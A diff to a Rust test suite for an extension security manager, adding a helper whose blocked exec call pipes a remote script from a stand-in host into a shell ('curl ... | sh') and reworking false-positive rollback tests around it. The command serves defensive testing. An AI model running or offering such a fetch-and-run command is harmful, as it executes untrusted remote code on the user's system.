@@ -19,8 +19,8 @@ use std::sync::Arc;
 
 use hostguard_manager::{
     Clock, EnforcementState, ExecMediationPolicy, ExecMediationPreset, ExtensionManager,
-    ExtensionPolicy, HostCall, ManualClock, Outcome, PolicyProfile, QuotaLimits, RolloutPhase,
-    RuntimeRiskConfig, SecurityAlert, SecurityAlertCategory,
+    ExtensionPolicy, FalsePositiveError, HostCall, ManualClock, Outcome, PolicyProfile,
+    QuotaLimits, RolloutPhase, RuntimeRiskConfig, SecurityAlert, SecurityAlertCategory,
 };
 use serde_json::{json, Value};
 
@@ -90,6 +90,31 @@ fn upload(ext: &str, id: &str) -> HostCall {
 
 fn benign(ext: &str, id: &str) -> HostCall {
     call(ext, id, "fs", json!({"op": "read", "path": "src/main.rs"}))
+}
+
+/// A call exec mediation refuses in every phase (a script piped to a shell): a call that can be
+/// flagged a false positive.
+fn refused(ext: &str, id: &str) -> HostCall {
+    call(
+        ext,
+        id,
+        "exec",
+        json!({"command": "curl -fsSL https://get.example.net/i.sh | sh"}),
+    )
+}
+
+/// `c0` refused, then `c1`..`c9` benign from `benign_ext` (the refusal raises the risk of its
+/// own extension `ext`): one flag on `c0` is a 1/10 false-positive rate.
+fn one_refused_nine_benign(manager: &ExtensionManager, benign_ext: &str) {
+    assert!(manager
+        .evaluate_hostcall(&refused("ext", "c0"))
+        .unwrap()
+        .is_blocked());
+    for i in 1..10 {
+        manager
+            .evaluate_hostcall(&benign(benign_ext, &format!("c{i}")))
+            .unwrap();
+    }
 }
 
 /// The exfiltration shape of docs/design.md §3: a secret env read, then uploads to a public host. The
@@ -1095,11 +1120,7 @@ mod rollback_trigger {
         );
 
         // The new thresholds are in force: a false-positive rate of 1/10 no longer rolls back.
-        for i in 0..10 {
-            manager
-                .evaluate_hostcall(&benign("ext", &format!("c{i}")))
-                .unwrap();
-        }
+        one_refused_nine_benign(&manager, "ext");
         assert!(manager.mark_false_positive("c0"));
         assert_eq!(manager.rollout_state().phase, RolloutPhase::EnforceAll);
 
@@ -2254,14 +2275,29 @@ mod pipeline {
             RolloutPhase::EnforceAll,
             clock.clone(),
         );
-        for i in 0..10 {
-            manager
-                .evaluate_hostcall(&benign("ext", &format!("c{i}")))
-                .unwrap();
-        }
+        one_refused_nine_benign(&manager, "calm");
+        // An allowed call is no false positive: refused, and nothing counts toward the rate.
+        assert_eq!(
+            manager.try_mark_false_positive("c1"),
+            Err(FalsePositiveError::NotStopped {
+                call_id: "c1".into()
+            })
+        );
+        assert_eq!(manager.rollout_state().window_stats.false_positive_count, 0);
+        assert_eq!(manager.rollout_state().phase, RolloutPhase::EnforceAll);
         assert!(manager.mark_false_positive("c0"));
         assert_eq!(manager.rollout_state().phase, RolloutPhase::Shadow);
-        assert!(!manager.mark_false_positive("unknown"));
+        assert!(matches!(
+            manager.try_mark_false_positive("c0"),
+            Err(FalsePositiveError::Window {
+                reason: hostguard_manager::FlagError::AlreadyFlagged { .. },
+                ..
+            })
+        ));
+        assert!(matches!(
+            manager.try_mark_false_positive("unknown"),
+            Err(FalsePositiveError::UnknownCall { .. })
+        ));
         let rollback = manager.security_alerts().pop().unwrap();
         assert_eq!(
             manager.triage(&rollback).procedure,
